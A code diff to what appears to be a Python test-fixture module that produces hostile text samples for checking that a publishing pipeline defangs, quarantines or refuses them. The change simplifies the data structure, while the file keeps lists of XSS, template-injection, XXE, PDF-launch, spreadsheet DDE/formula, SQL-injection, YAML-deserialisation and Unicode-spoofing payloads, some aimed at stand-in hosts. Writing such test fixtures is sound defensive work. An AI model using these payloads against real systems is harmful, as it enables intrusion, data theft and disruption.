@@ -4,8 +4,8 @@
 `posts(web, file)` gives texts that members of a campaign post; `web` is the address of a server that must never be asked, `file` the
 path of a file whose words must appear nowhere. `broken_rows()` are rows that must be refused, `files()` whole files that must be.
 
-Fates: `printed` as written; `replaced`: printed with what acts made visible, defanged, or cut; `short`: kept and counted, but shorter
-than any text that is compared or quoted; `quarantined`: the row is refused with a reason; `refused`: the file is.
+What became of each (road.py, passing.py): `printed` as written; `replaced`: printed with what acts made visible, defanged, or cut;
+`quarantined`: the row is refused with a reason; `refused`: the file is.
 """
 
 import random
@@ -43,7 +43,6 @@ class Post:
     kind: str
     text: str
     fate: str = "printed"
-    forbidden: tuple[str, ...] = ()  # stand raw in nothing that is published
     row: dict[str, Any] = field(default_factory=dict)  # fields that differ from an ordinary post
     carrier: str = "ndjson"
 
@@ -54,8 +53,8 @@ def _carrier_words(label: str) -> str:
     return " ".join("".join(draw.choices(SYLLABLES, k=3)) for _ in range(8))
 
 
-def _payloads(web: str, file: str) -> Iterator[tuple[str, str, tuple[str, ...]]]:
-    """(class, payloads, what may stand raw nowhere) one after the other; the fate is told by `_fate`."""
+def _payloads(web: str, file: str) -> Iterator[tuple[str, str]]:
+    """(class, payload), one after the other."""
     tags = (
         "<script>fetch('{w}')</script>", "<img src={w}/i.png onerror=alert(1)>", "<svg onload=alert(1)><image href='{w}'/></svg>",
         "<svg><foreignObject><iframe src='{w}'></iframe></foreignObject></svg>", "<math><maction actiontype='statusline' xlink:href='javascript:alert(1)'>x</maction></math>",
@@ -70,16 +69,16 @@ def _payloads(web: str, file: str) -> Iterator[tuple[str, str, tuple[str, ...]]]
         "<scr<script>ipt>alert(1)</scr</script>ipt>", "%3Cscript%3Ealert(1)%3C/script%3E", "&lt;script&gt;alert(1)&lt;/script&gt;", "＜script＞alert(1)＜/script＞", "<ScRiPt\t>alert(1)</sCrIpT>",
         "<body onload=alert(1)>", "<marquee>wide</marquee>", "<plaintext>", "<xmp><b>", "<textarea>", "<title>Owned</title>",
     )  # fmt: skip
-    yield from (("markup", one, ("<script>", "onerror=alert(1)>", "<iframe", "<object")) for one in tags)
+    yield from (("markup", one) for one in tags)
     yield from (
-        ("template syntax", one, ())
+        ("template syntax", one)
         for one in (
             "{{ 7 * 191 }}", "{% for x in range(9) %}x{% endfor %}", "{# gone #}", "{{ config.items() }}", "{{ ''.__class__.__mro__ }}", "{{ v.head.edition }}",
             "{% include '/etc/passwd' %}", "{% raw %}", "${7*191}", "#{7*191}", "<%= 7*191 %>", "%(campaign)s %s %d", "{0.__class__}", "{edition!r:>9999}", "$(id) `id`", "\\N{BELL} \\u0041 \\x41",
         )
     )  # fmt: skip
     yield from (
-        ("styles and attributes", one, ())
+        ("styles and attributes", one)
         for one in (
             "</style><style>*{{display:none}}</style>", "}} body {{ background: url({w}/bg.png) }}", "@import '{w}/x.css';", "@font-face{{src:url(file://{f})}}", "x: expression(alert(1))",
             "background:url(javascript:alert(1))", "content: attr(href); width: 99999px", "\\000041 \\22 }}", "/* */ */ x", "@page {{ size: 1px }}", "\" onmouseover=\"alert(1)", "' onfocus='alert(1)' x='",
@@ -94,9 +93,9 @@ def _payloads(web: str, file: str) -> Iterator[tuple[str, str, tuple[str, ...]]]
         "resurge:/fonts/x.ttf", "resurge:/figures/../../etc/passwd", "mailto:x@evil.example?bcc=all@evil.example", "tel:+15551234567", "view-source:http://evil.example", "blob:http://evil.example/1",
         "http:\\\\evil.example\\x", "hTtP://EVIL.example/Case", "http://evil.example/\"onclick=\"x", "http://evil.example/'),=HYPERLINK(", "http://-.example/ http://.example/ http://..", "http:// http:///x", "www.evil.example/=1+1", "evil.zip and evil.mov and evil.com",
     )  # fmt: skip
-    yield from (("links", one, ("javascript:alert(document", "http://evil.example")) for one in links)
+    yield from (("links", one) for one in links)
     yield from (
-        ("XML and PDF", one, ())
+        ("XML and PDF", one)
         for one in (
             "<!DOCTYPE x [<!ENTITY e SYSTEM 'file://{f}'>]><x>&e;</x>", "<!ENTITY % p SYSTEM '{w}/x.dtd'> %p;", "<?xml version='1.0'?><?xml-stylesheet href='{w}'?>", "<xi:include href='file://{f}'/>",
             "&lol9; &lol8; &amp;amp;", "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>", "%PDF-1.7 1 0 obj << /Launch /F (cmd.exe) >> endobj", "endstream endobj xref trailer %%EOF", ") Tj ET BT (injected", "/URI ({w}) /EmbeddedFile /AA",
@@ -107,9 +106,9 @@ def _payloads(web: str, file: str) -> Iterator[tuple[str, str, tuple[str, ...]]]
         "\x00 null", "a\x01\x02\x03\x04\x05\x06\x07b", "\x08\x08\x08 backspace", "\x0b\x0c feeds", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07", "\x9b31m C1", "\x80\x85\x9f",
         "\x7f delete", "\ud800 lone high", "\udfff lone low", "\udc00\ud800 reversed", "\ufffe\uffff nonchar", "\U0001fffe plane", "\ufeff mark", "\ufff9anno\ufffatated\ufffb", "\u2028 line \u2029 para", "\u00ad soft", "\u2061\u2062\u2063 maths", "\u061c\u180e old",
     )  # fmt: skip
-    yield from (("controls and surrogates", one, ("\x1b", "\x00", "\x9b")) for one in invisible)
+    yield from (("controls and surrogates", one) for one in invisible)
     yield from (
-        ("bidi and invisible", one, ("\u202e", "\u2066", "\U000e0041"))
+        ("bidi and invisible", one)
         for one in (
             "\u202egpj.exe", "\u202dabc\u202c", "\u2066isolate\u2069", "\u2067rtl\u2069", "\u2068first\u2069", "\u202aembed\u202b", "\u200fmark\u200e", "no\u200bbreak\u200bhere", "join\u2060er", "zw\u200cnj\u200dzwj",
             "\U000e0041\U000e0042\U000e007f tags", "\U000e0001 lang tag", "\u115f\u3164\uffa0 fillers", "\u2800 blank braille", "\u202e" * 40 + " many", "مرحبا \u202eabc שלום", "abc مرحبا def שלום ghi", "‏1 + 2 = ٣", "(עברית) [english] {العربية}", "\u200d" * 60,
@@ -117,7 +116,7 @@ def _payloads(web: str, file: str) -> Iterator[tuple[str, str, tuple[str, ...]]]
         )
     )  # fmt: skip
     yield from (
-        ("marks, emoji and size", one, ())
+        ("marks, emoji and size", one)
         for one in (
             "e" + "\u0301" * 10_000, "Z̸̢̛͍a̶̡̢l̷̨͜g̵̛̣o̸͓͠" * 12, "".join(c + "\u0336\u0489\u20dd" * 9 for c in "stacked"), "👨‍👩‍👧‍👦" * 60, "👩\U0001f3fd\u200d🚀" + "\u200d🚀" * 200, "🇦🇺🇦🇺🇦", "😀" * 3_000,
             "unbroken" + "x" * 99_000, "w" * 1_500, "W" * 280, "one\n" * 9_000, "\n" * 10_000 + "end", "\r\r\r\n\n end", " " * 9_000 + "end", "\t" * 500 + "end", "a " * 40_000, "﷽" * 200, "𒐫" * 150, "꧅" * 80, "㍿" * 300, "\u0e33" * 300, "ก็็็็็็็็็็็็็็็็็็็็" * 12,
@@ -125,7 +124,7 @@ def _payloads(web: str, file: str) -> Iterator[tuple[str, str, tuple[str, ...]]]
         )
     )  # fmt: skip
     yield from (
-        ("scripts and look-alikes", one, ())
+        ("scripts and look-alikes", one)
         for one in (
             "\ue000\uf8ff private", "\U000f0000\U0010fffd planes", "\u0378\u05ff unassigned", "\U0001fae9\U0001fbff new", "𓀀𓁐 hieroglyphs", "𐎠𐎡 cuneiform", "ᚠᚢᚦ runes", "ꀀꀁ yi", "𞤀𞤁 adlam", "ߊߋ nko", "ᠮᠣᠩᠭᠣᠯ mongol", "བོད་ཡིག tibetan", "မြန်မာ burmese", "ខ្មែរ khmer",
             "አማርኛ amharic", "தமிழ் tamil", "ไทย thai", "日本語 かな カナ", "한국어 조선글", "简体 繁體 𠮷", "аdmin раypal gооgle", "ＦＵＬＬｗｉｄｔｈ ｔｅｘｔ", "𝓕𝓪𝓷𝓬𝔂 𝕥𝕖𝕩𝕥", "ⓒⓘⓡⓒⓛⓔⓓ", "ʇxǝʇ uʍop", "ﬁ ﬂ ligatures ẞ İ ı ſ", "①②③ Ⅷ ㊙", "½ ² ª º", "\u212a \u2126 \u00b5", "١٢٣ १२३ 一二三",
@@ -135,9 +134,9 @@ def _payloads(web: str, file: str) -> Iterator[tuple[str, str, tuple[str, ...]]]
         "=1+1", "=HYPERLINK(\"{w}\",\"click\")", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "\ufeff=1+1", "\u200b=1+1", "\u2060@SUM(1)", "＝1+1", "＋1", "－1", "＠SUM(1)", "﹢1+1", "−1",
         "=IMPORTXML(\"{w}\",\"//a\")", "=WEBSERVICE(\"{w}\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "%=1+1", ";=1+1", ",=1+1", "\"=1+1\"", "'=1+1", "a,b;c\td|e", "quote \" inside \"\"", "line\nbreak,\"=1+1\"", "\u0301=1+1", "\x00=1+1", "\u202e=1+1", "\u3000=1+1", "\U000e0041=1+1",
     )  # fmt: skip
-    yield from (("spreadsheet cells", one, ()) for one in cells)
+    yield from (("spreadsheet cells", one) for one in cells)
     yield from (
-        ("data formats", one, ())
+        ("data formats", one)
         for one in (
             '{{"a": 1, "a": 2}}', '"}}, {{"type": "bundle", "objects": []', "[domain-name:value = 'x'] OR [file:name = '", "' AND 1=1 --", "x' OR 'a'='a", "'; DROP TABLE posts; --", "1 UNION SELECT * FROM outbox", "NaN", "Infinity -Infinity", "1e999 0x10 1_000", "null true false",
             "!!python/object/apply:os.system ['id']", "&a [*a, *a]", "--- ...", "\\u0000 \\ud800", "key: value\n- item", "(a+)+$ (x|x)*y " + "a" * 200 + "!", "^(([a-z])+.)+[A-Z]([a-z])+$", "INFO 2023 run done\nERROR forged line", "level=error msg=forged\r\nstatus=ok", "\u241b[31m looks like an escape",
@@ -146,7 +145,7 @@ def _payloads(web: str, file: str) -> Iterator[tuple[str, str, tuple[str, ...]]]
         )
     )  # fmt: skip
     yield from (
-        ("names", one, ())
+        ("names", one)
         for one in (
             "#<script>alert(1)</script> #=1+1", "#" + "tag" * 300, "#a#b#c##d", "＃全角 ＠全角", "@outsider_hostile says it", "@" + "m" * 500, "@outsider_hostile@mastodon.example", "@../../etc @=cmd", "mail outsider_hostile@mail.example now", "https://t.me/outsider_hostile", "@everyone @here", "#\u202etag", "@а_homoglyph", "#" + "é\u0301" * 20,
         )
@@ -156,7 +155,7 @@ def _payloads(web: str, file: str) -> Iterator[tuple[str, str, tuple[str, ...]]]
 def posts(web: str, file: str) -> list[Post]:
     """Every hostile text that must be taken in, in a fixed order."""
     made = []
-    for number, (kind, payload, forbidden) in enumerate(_payloads(web, file)):
+    for number, (kind, payload) in enumerate(_payloads(web, file)):
         label = f"hostile{number:03d}"
         filled = payload.replace("{w}", web).replace("{f}", file)
         if kind in ("styles and attributes", "data formats"):
@@ -166,9 +165,7 @@ def posts(web: str, file: str) -> list[Post]:
         carrier = "csv" if kind == "spreadsheet cells" and "\x00" not in text else "parquet" if number % 5 == 0 else "ndjson"
         if any("\ud800" <= c <= "\udfff" for c in text):
             carrier = "ndjson"
-        made.append(
-            Post(label, kind, text, forbidden=forbidden, carrier=carrier, row={"post_id": POST_IDS[number % len(POST_IDS)]})
-        )
+        made.append(Post(label, kind, text, carrier=carrier, row={"post_id": POST_IDS[number % len(POST_IDS)]}))
     return made
 
 
